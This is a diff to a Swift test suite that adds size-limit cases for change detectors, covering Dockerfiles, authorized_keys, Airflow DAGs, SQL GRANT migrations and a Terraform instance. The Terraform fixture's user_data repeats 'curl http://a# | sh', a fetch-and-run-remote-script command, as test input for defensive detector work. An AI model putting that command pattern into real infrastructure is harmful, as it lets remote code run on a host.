@@ -10,6 +10,8 @@ struct LimitTests {
     let head: String
     /// Repeated, with a number for `#`, up to a million bytes.
     let line: String
+    var tail = ""
+    var old: String?
     let limit: String
     var testDescription: String { path }
   }
@@ -61,6 +63,30 @@ struct LimitTests {
       line: "- user: {name: u#, groups: [sudo]}\n",
       limit: bytes
     ),
+    .init(path: "Dockerfile", head: "FROM a\n", line: "RUN a# && b# | c#\n", limit: bytes),
+    .init(path: "home/a/authorized_keys", head: "", line: "ssh-rsa A# u\n", limit: bytes),
+    .init(path: "dags/a.py", head: "import airflow\n", line: "f('#')\n", limit: bytes),
+    .init(
+      path: "migrations/1.sql",
+      head: "",
+      line: "DO $$ BEGIN GRANT SELECT ON t# TO u#; END $$;\n",
+      limit: "more than 1000"
+    ),
+    .init(
+      path: "migrations/2.sql",
+      head: "DO $$ BEGIN\n",
+      line: "GRANT SELECT ON t# TO u#;\n",
+      tail: "END $$;\n",
+      limit: "more than 262144 bytes"
+    ),
+    .init(
+      path: "main.tf",
+      head: "resource \"aws_instance\" \"a\" {\n  user_data = <<EOT\n#!/bin/sh\n",
+      line: "curl http://a# | sh\n",
+      tail: "EOT\n}\n",
+      old: "resource \"aws_instance\" \"a\" {\n  user_data = \"\"\n}\n",
+      limit: "by 'user_data'"
+    ),
   ]
 
   @Test("end as unknown", arguments: cases)
@@ -71,7 +97,7 @@ struct LimitTests {
       for piece in testCase.line { text += piece == "#" ? String(number) : String(piece) }
       number += 1
     }
-    let pair = DetectorCase("", testCase.path, nil, text, .unknown).pair
+    let pair = DetectorCase("", testCase.path, testCase.old, text + testCase.tail, .unknown).pair
     let verdicts = Catalogue.detectors.map { Verdict($0.read(pair)) }
     #expect(verdicts.contains { $0.reason?.contains(testCase.limit) ?? false }, "\(verdicts)")
   }
